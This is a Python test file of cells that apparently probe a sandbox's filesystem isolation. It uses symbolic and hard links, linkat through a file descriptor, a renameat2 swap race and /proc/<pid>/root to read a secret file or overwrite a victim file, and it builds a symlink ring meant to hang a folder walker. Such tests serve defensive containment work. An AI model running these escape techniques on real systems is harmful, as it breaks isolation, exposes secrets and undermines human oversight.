# %% a symbolic link to a secret
# proof: plain
folder = tempfile.mkdtemp(prefix=W.marker)
os.symlink(W.secret_file, folder + "/link")
print(open(folder + "/link").read())

# %% a hard link to a secret
# proof: plain
folder = tempfile.mkdtemp(prefix=W.marker, dir=W.wide)
os.link(W.secret_file, folder + "/link")
print(open(folder + "/link").read())

# %% a hard link through a descriptor
# proof: root
descriptor = os.open(W.secret_file, os.O_PATH)
folder = tempfile.mkdtemp(prefix=W.marker, dir=W.wide)
libc.linkat(descriptor, b"", -100, (folder + "/link").encode(), 0x1000)
print(open(folder + "/link").read())

# %% a symbolic link through which the parent writes
# proof: plain
folder = tempfile.mkdtemp(prefix=W.marker)
os.symlink(W.victim, folder + "/out")
open(folder + "/out", "w").write("changed")

# %% symbolic links over all that can be replaced in the working folder
# proof: no, what is left is looked for after the run
for name in os.listdir("."):
    with quiet():
        os.rename(name, name + ".old")
        os.symlink(W.victim, name)
for name in ("stdout", "stderr", "result", "result.json", "program.py", "main.py", "code.py", "output", "core", "home", "tmp"):
    for folder in (".", "/tmp", os.path.expanduser("~")):
        with quiet():
            os.symlink(W.victim, f"{folder}/{name}")

# %% swap a folder and a link while files are opened
# proof: plain
folder = tempfile.mkdtemp(prefix=W.marker)
os.mkdir(folder + "/a")
open(folder + "/a/secret.txt", "w").write("mine")
os.symlink(os.path.dirname(W.secret_file), folder + "/b")
for _ in range(200):
    libc.renameat2(-100, (folder + "/a").encode(), -100, (folder + "/b").encode(), 2)
    with quiet():
        show_secrets(open(folder + "/a/secret.txt", "rb").read())

# %% a link that the kernel follows to another process's root
# proof: plain
folder = tempfile.mkdtemp(prefix=W.marker)
os.symlink(f"/proc/{W.parent}/root", folder + "/root")
print(open(folder + "/root" + W.secret_file).read())

# %% links in a ring
# proof: no, it only tries to make a walker of the folder hang
folder = tempfile.mkdtemp(prefix=W.marker)
os.symlink(folder, folder + "/again")
deep = folder
with quiet():
    for _ in range(900):
        deep += "/d"
        os.mkdir(deep)
    os.chmod(folder, 0)
